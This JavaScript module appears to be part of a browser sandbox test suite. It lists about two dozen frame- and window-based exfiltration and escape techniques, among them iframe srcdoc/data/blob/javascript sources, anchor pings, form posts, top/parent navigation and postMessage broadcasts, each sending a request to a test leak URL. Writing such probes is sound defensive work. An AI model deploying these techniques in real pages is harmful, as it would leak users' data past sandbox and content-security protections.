// Frames, windows, siblings: places where other rules might hold.

import { leakUrl, plant, plantHtml } from "../leak.js";

/** Code in a fresh realm of this page, where nothing was deleted. @param {(realm: any) => unknown} use */
function inFreshRealm(use) {
  const frame = plant("iframe", {});
  return use(/** @type {HTMLIFrameElement} */ (frame).contentWindow);
}

/** @type {Record<string, () => unknown>} */
export const frameAttacks = {
  iframe: () => plant("iframe", { src: leakUrl("iframe") }),
  "iframe-srcdoc": () =>
    plant("iframe", {
      srcdoc: `<img src="${leakUrl("iframe-srcdoc")}"><script>fetch("${leakUrl("iframe-srcdoc")}")</script>`,
    }),
  "iframe-data": () => plant("iframe", { src: `data:text/html,<img src="${leakUrl("iframe-data")}">` }),
  "iframe-blob": () =>
    plant("iframe", {
      src: URL.createObjectURL(new Blob([`<img src="${leakUrl("iframe-blob")}">`], { type: "text/html" })),
    }),
  "iframe-javascript": () => plant("iframe", { src: `javascript:fetch("${leakUrl("iframe-javascript")}")` }),
  "iframe-blank-fetch": () => inFreshRealm((realm) => realm.fetch(leakUrl("iframe-blank-fetch"))),
  "iframe-blank-image": () => inFreshRealm((realm) => (new realm.Image().src = leakUrl("iframe-blank-image"))),
  "iframe-credentialless": () => plant("iframe", { credentialless: "", src: leakUrl("iframe-credentialless") }),
  "fenced-frame": () => plant("fencedframe", { src: leakUrl("fenced-frame") }),
  frameset: () => plantHtml(`<frameset><frame src="${leakUrl("frameset")}"></frameset>`),
  "object-page": () => plant("object", { data: leakUrl("object-page") }),
  "window-open": () => {
    if (!window.open(leakUrl("window-open"))) throw new Error("refused");
  },
  "window-open-noopener": () => window.open(leakUrl("window-open-noopener"), "_blank", "noopener"),
  "window-open-parent": () => window.open(leakUrl("window-open-parent"), "_parent"),
  "window-open-top": () => window.open(leakUrl("window-open-top"), "_top"),
  "anchor-blank": () => plant("a", { href: leakUrl("anchor-blank"), target: "_blank" }).click(),
  "anchor-ping": () => plant("a", { href: "#x", ping: leakUrl("anchor-ping") }).click(),
  "form-blank": () => plant("form", { action: leakUrl("form-blank"), method: "post", target: "_blank" }).submit(),
  "form-frame": () => {
    plant("iframe", { name: "sink" });
    plant("form", { action: leakUrl("form-frame"), target: "sink" }).submit();
  },
  "top-location": () => (top.location = leakUrl("top-location")),
  "parent-location": () => (parent.location.href = leakUrl("parent-location")),
  "parent-document": () => parent.document.body.append("x"),
  "parent-frames": () => {
    const siblings = Array.from({ length: parent.length }, (_, index) => parent[index]).filter(
      (frame) => frame !== window,
    );
    if (siblings.length === 0) throw new Error("none to be found");
    for (const sibling of siblings) sibling.location = leakUrl("parent-frames");
  },
  "top-frames": () => {
    if (top.length === 0) throw new Error("none to be found");
    for (let index = 0; index < top.length; index += 1) top[index].location = leakUrl("top-frames");
  },
  "post-to-all": () => {
    const channel = new MessageChannel();
    for (const target of [parent, top, parent.parent, opener].filter(Boolean)) {
      target.postMessage({ leak: "post-to-all" }, "*");
      target.postMessage({ type: "twin-port" }, "*", [new MessageChannel().port1, new MessageChannel().port1]);
    }
    channel.port1.close();
  },
};
